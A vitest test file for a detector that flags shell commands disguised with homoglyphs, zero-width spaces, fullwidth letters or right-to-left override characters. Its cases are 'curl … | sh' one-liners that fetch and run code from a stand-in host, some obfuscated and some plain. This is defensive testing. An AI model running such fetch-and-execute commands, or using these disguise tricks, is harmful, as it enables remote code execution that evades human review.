import { describe, expect, it } from "vitest";
import { sharedDetector } from "../support/marked.js";

describe("notes on obscured commands", async () => {
  const detector = await sharedDetector("extended");
  const obscured = (text: string): string[] =>
    detector
      .detect(text)
      .notes.filter(({ reason }) => reason === "obscured")
      .map(({ span }) => text.slice(...span));

  it.each([
    ["\u0441url https://x.example/i | sh", "\u0441url"],
    ["curl https://x.example/i | b\u0430sh", "b\u0430sh"],
    ["Run `cu\u200brl https://x.example/i | sh`.", "cu\u200brl"],
    ["\uff43url https://x.example/i | sh", "\uff43url"],
    ["curl https://x.example/\u202ei | sh", "curl https://x.example/\u202ei | sh"],
  ])("are added for %j", (text, word) => {
    expect(obscured(text)).toEqual([word]);
  });

  it.each([
    "curl https://x.example/i | sh",
    "\ufeffcurl https://x.example/i | sh",
    "curl\u200b https://x.example/i\u200b | sh",
    "\u0417\u0430\u043f\u0443\u0441\u0442\u0438\u0442\u0435 curl https://x.example/i | sh",
    "\u0441\u043e\u0440 \u0430\u0441",
    "na\u00efve caf\u00e9",
  ])("are not added for %j", (text) => {
    expect(obscured(text)).toEqual([]);
  });
});
